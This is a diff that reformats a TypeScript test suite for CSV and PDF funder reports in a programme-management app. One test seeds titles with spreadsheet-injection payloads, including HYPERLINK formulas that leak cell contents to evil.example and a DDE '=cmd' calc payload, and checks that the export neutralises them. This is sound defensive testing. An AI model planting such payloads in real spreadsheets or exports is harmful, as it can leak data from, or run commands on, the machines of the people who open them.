@@ -17,15 +17,15 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
       else if (c === '"') quoted = false;
       else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(field), (field = '');
-    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
+    else if (c === ',') (row.push(field), (field = ''));
+    else if (c === '\r' && text[i + 1] === '\n') (row.push(field), rows.push(row), (row = []), (field = ''), i++);
     else field += c;
   }
-  if (field || row.length) row.push(field), rows.push(row);
+  if (field || row.length) (row.push(field), rows.push(row));
   return rows;
 }
 
@@ -60,7 +60,11 @@ describe('funder reports (CSV, PDF) built by the worker', () => {
     const pairA = await t.given.pair(w0.programme, liege, nicosia);
     const pairB = await t.given.pair(w0.programme, helsinki, w0.city);
     const plans = new GivenPlans(t.orm);
-    const planA = await plans.plan(pairA, { title: 'Guichet unique, "one-stop" shop', sectionCodes: ['comprehensive-support', 'access-to-finance'], state: 'in-progress' });
+    const planA = await plans.plan(pairA, {
+      title: 'Guichet unique, "one-stop" shop',
+      sectionCodes: ['comprehensive-support', 'access-to-finance'],
+      state: 'in-progress',
+    });
     const [lateA, onTimeA] = await plans.milestones(planA, [
       { title: 'Open the desk, at last', dueDate: '2026-01-15', status: 'in-progress', owner: 'Economic affairs' },
       { title: 'Train advisers', dueDate: '2099-06-30' },
@@ -74,14 +78,17 @@ describe('funder reports (CSV, PDF) built by the worker', () => {
     await plans.assessment(w0.programme, liege, 'baseline', { 'strategy.q1': 1 }, { status: 'submitted' });
     await plans.assessment(w0.programme, liege, 'follow-up', { 'strategy.q1': 2 });
     const em = t.orm.em.fork();
-    await em.persistAndFlush(new ConsortiumMilestone(em.getReference(Programme, w0.programme.id), 'Final report to the funder', '2027-12-01'));
+    await em.persistAndFlush(
+      new ConsortiumMilestone(em.getReference(Programme, w0.programme.id), 'Final report to the funder', '2027-12-01'),
+    );
     return { ...w0, nicosia, liege, helsinki, lateA, onTimeA };
   }
 
   it('scores only submitted assessments: a draft follow-up is no result for the funder', async () => {
     const c = await consortium();
     const data = await loadReportData(t.orm.em.fork(), c.programme.id, '2026-06-01');
-    const strategy = (name: string) => data.scores.find((s) => s.organisationName === name)!.sections.find((x) => x.code === 'strategy');
+    const strategy = (name: string) =>
+      data.scores.find((s) => s.organisationName === name)!.sections.find((x) => x.code === 'strategy');
     expect(strategy('Λευκωσία')).toMatchObject({ baseline: 0, followUp: 100 });
     expect(strategy('Liège')).toMatchObject({ baseline: 50, followUp: null });
   });
@@ -91,28 +98,59 @@ describe('funder reports (CSV, PDF) built by the worker', () => {
     const res = await api.post(`/programmes/${programmeId}/reports`, { format }).expect(202);
     expect(res.body).toMatchObject({ format, status: 'queued', progress: 0, downloadUrl: null });
     let report = res.body;
-    await until(async () => {
-      report = (await api.get(`/reports/${res.body.id}`).expect(200)).body;
-      return report.status === 'done' || report.status === 'failed';
-    }, 50_000, `the ${format} report`);
-    expect(report).toMatchObject({ status: 'done', progress: 100, error: null, downloadUrl: `/api/v1/reports/${res.body.id}/download` });
+    await until(
+      async () => {
+        report = (await api.get(`/reports/${res.body.id}`).expect(200)).body;
+        return report.status === 'done' || report.status === 'failed';
+      },
+      50_000,
+      `the ${format} report`,
+    );
+    expect(report).toMatchObject({
+      status: 'done',
+      progress: 100,
+      error: null,
+      downloadUrl: `/api/v1/reports/${res.body.id}/download`,
+    });
     return report as { id: string };
   }
 
   it('writes a CSV with one row per milestone that parses back (RFC 4180)', async () => {
     const c = await consortium();
     const report = await built(c.people.coordinator.token, c.programme.id, 'csv');
-    const file = await t.api.as(c.people.coordinator.token).get(`/reports/${report.id}/download`).buffer(true).parse((res, cb) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (d: Buffer) => chunks.push(d));
-      res.on('end', () => cb(null, Buffer.concat(chunks)));
-    }).expect(200);
+    const file = await t.api
+      .as(c.people.coordinator.token)
+      .get(`/reports/${report.id}/download`)
+      .buffer(true)
+      .parse((res, cb) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (d: Buffer) => chunks.push(d));
+        res.on('end', () => cb(null, Buffer.concat(chunks)));
+      })
+      .expect(200);
     expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(file.headers['content-disposition']).toMatch(/^attachment; filename="report-\d{4}-\d{2}-\d{2}\.csv"$/);
     const text = (file.body as Buffer).toString('utf8');
     expect(text.startsWith('\uFEFF')).toBe(true);
     const [header, ...rows] = parseCsv(text.slice(1));
-    expect(header).toEqual(['pair', 'mentor city', 'mentee city', 'benchmark', 'sections', 'plan', 'plan state', 'milestone', 'owner', 'due date', 'status', 'late', 'days late', 'latest progress %', 'latest progress note', 'latest progress date']);
+    expect(header).toEqual([
+      'pair',
+      'mentor city',
+      'mentee city',
+      'benchmark',
+      'sections',
+      'plan',
+      'plan state',
+      'milestone',
+      'owner',
+      'due date',
+      'status',
+      'late',
+      'days late',
+      'latest progress %',
+      'latest progress note',
+      'latest progress date',
+    ]);
     const byMilestone = Object.fromEntries(rows.map((r) => [r[7], r]));
     expect(rows).toHaveLength(3);
     expect(byMilestone['Open the desk, at last']).toEqual([
@@ -140,22 +178,41 @@ describe('funder reports (CSV, PDF) built by the worker', () => {
 
   it('keeps titles a spreadsheet would run as formulas as text (CSV injection), with every character', async () => {
     const w0 = await t.given.world();
-    const mentor = await t.given.organisation('city', `=HYPERLINK("http://evil.example/?c="&A1,"Mentor ${Date.now()}")`, 'FI');
+    const mentor = await t.given.organisation(
+      'city',
+      `=HYPERLINK("http://evil.example/?c="&A1,"Mentor ${Date.now()}")`,
+      'FI',
+    );
     await t.given.participant(w0.programme, mentor);
     const pair = await t.given.pair(w0.programme, mentor, w0.city);
     const plans = new GivenPlans(t.orm);
     const planTitle = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the plan")';
     const plan = await plans.plan(pair, { title: planTitle, state: 'in-progress' });
-    const titles = ['+1+2 more desks', '-2+3 rooms', '@SUM(A1:A9)', '\t=1+1 tabbed', '\r=1+1 after a CR', 'Plan = budget + staff'];
-    const milestones = await plans.milestones(plan, titles.map((title, i) => ({ title, dueDate: '2099-06-30', owner: i === 0 ? "=cmd|' /C calc'!A0" : 'Owner' })));
+    const titles = [
+      '+1+2 more desks',
+      '-2+3 rooms',
+      '@SUM(A1:A9)',
+      '\t=1+1 tabbed',
+      '\r=1+1 after a CR',
+      'Plan = budget + staff',
+    ];
+    const milestones = await plans.milestones(
+      plan,
+      titles.map((title, i) => ({ title, dueDate: '2099-06-30', owner: i === 0 ? "=cmd|' /C calc'!A0" : 'Owner' })),
+    );
     await plans.progress(milestones[0]!, w0.people.cityMember.user, { percent: 10, note: '=1+1, "quoted"' });
 
     const report = await built(w0.people.coordinator.token, w0.programme.id, 'csv');
-    const file = await t.api.as(w0.people.coordinator.token).get(`/reports/${report.id}/download`).buffer(true).parse((res, cb) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (d: Buffer) => chunks.push(d));
-      res.on('end', () => cb(null, Buffer.concat(chunks)));
-    }).expect(200);
+    const file = await t.api
+      .as(w0.people.coordinator.token)
+      .get(`/reports/${report.id}/download`)
+      .buffer(true)
+      .parse((res, cb) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (d: Buffer) => chunks.push(d));
+        res.on('end', () => cb(null, Buffer.concat(chunks)));
+      })
+      .expect(200);
     const text = (file.body as Buffer).toString('utf8');
     // Every cell that starts a formula is quoted and starts with a single quote, in the raw file…
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Open the plan"")"`);
@@ -181,11 +238,16 @@ describe('funder reports (CSV, PDF) built by the worker', () => {
   it('writes a PDF whose text names every pair, the late milestones and the cities in their own scripts', async () => {
     const c = await consortium();
     const report = await built(c.people.expert.token, c.programme.id, 'pdf');
-    const res = await t.api.as(c.people.expert.token).get(`/reports/${report.id}/download`).buffer(true).parse((r, cb) => {
-      const chunks: Buffer[] = [];
-      r.on('data', (d: Buffer) => chunks.push(d));
-      r.on('end', () => cb(null, Buffer.concat(chunks)));
-    }).expect(200);
+    const res = await t.api
+      .as(c.people.expert.token)
+      .get(`/reports/${report.id}/download`)
+      .buffer(true)
+      .parse((r, cb) => {
+        const chunks: Buffer[] = [];
+        r.on('data', (d: Buffer) => chunks.push(d));
+        r.on('end', () => cb(null, Buffer.concat(chunks)));
+      })
+      .expect(200);
     expect(res.headers['content-type']).toBe('application/pdf');
     const pdf = join(dir, 'check.pdf');
     writeFileSync(pdf, res.body as Buffer);
@@ -221,11 +283,17 @@ describe('funder reports (CSV, PDF) built by the worker', () => {
 
   it('answers 409 for the download of a report not built yet', async () => {
     const c = await consortium();
-    await t.orm.em.fork().getConnection().execute(
-      `insert into reports (id, programme_id, requested_by_id, format, status, progress, created_at) values ('11111111-1111-4111-8111-111111111111', ?, ?, 'pdf', 'running', 40, now())`,
-      [c.programme.id, c.people.coordinator.user.id],
-    );
-    const res = await t.api.as(c.people.coordinator.token).get('/reports/11111111-1111-4111-8111-111111111111/download').expect(409);
+    await t.orm.em
+      .fork()
+      .getConnection()
+      .execute(
+        `insert into reports (id, programme_id, requested_by_id, format, status, progress, created_at) values ('11111111-1111-4111-8111-111111111111', ?, ?, 'pdf', 'running', 40, now())`,
+        [c.programme.id, c.people.coordinator.user.id],
+      );
+    const res = await t.api
+      .as(c.people.coordinator.token)
+      .get('/reports/11111111-1111-4111-8111-111111111111/download')
+      .expect(409);
     expect(res.body.message).toMatch(/running/);
   });
 });
